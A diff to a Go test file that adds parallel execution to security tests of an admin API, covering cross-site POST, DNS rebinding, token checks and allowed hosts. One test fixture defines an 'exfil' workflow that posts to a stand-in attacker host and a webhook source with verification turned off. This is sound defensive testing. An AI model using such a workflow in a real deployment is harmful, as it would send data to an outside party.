@@ -14,6 +14,7 @@ import (
 // change the configuration (a cross-site form POST) or read it (DNS
 // rebinding) while the management API trusts loopback clients.
 func TestBrowserAttacksOnManagementAPI(t *testing.T) {
+	t.Parallel()
 	s := newStack(t)
 	workflow := `{"id":"exfil","trigger":{"source":"web"},"steps":[{"id":"s","action":"webhook.send","url":"https://attacker.example/x"}]}`
 	source := `{"id":"open-door","kind":"webhook","verify":{"scheme":"none"}}`
@@ -86,6 +87,7 @@ func TestBrowserAttacksOnManagementAPI(t *testing.T) {
 // With tokens, a read that carries one is served whatever the browser
 // says of its origin: only a page that holds the token can send it.
 func TestCrossSiteReadWithToken(t *testing.T) {
+	t.Parallel()
 	s := newStack(t, func(c *config.Config) { c.Admin.Tokens = []string{"s3cret"} })
 	wantStatus(t, s.do(t, "GET", "/admin/v1/sources", "", "", "Sec-Fetch-Site", "cross-site"), 403)
 	wantStatus(t, s.do(t, "GET", "/admin/v1/sources", "", "", "Sec-Fetch-Site", "cross-site", "Authorization", "Bearer s3cret"), 200)
@@ -93,6 +95,7 @@ func TestCrossSiteReadWithToken(t *testing.T) {
 }
 
 func TestAllowedHosts(t *testing.T) {
+	t.Parallel()
 	s := newStack(t, func(c *config.Config) { c.Admin.AllowedHosts = []string{"switchyard.example.com", "*.corp.example"} })
 	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "switchyard.example.com"), 200)
 	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "SwitchYard.Example.com:443"), 200)
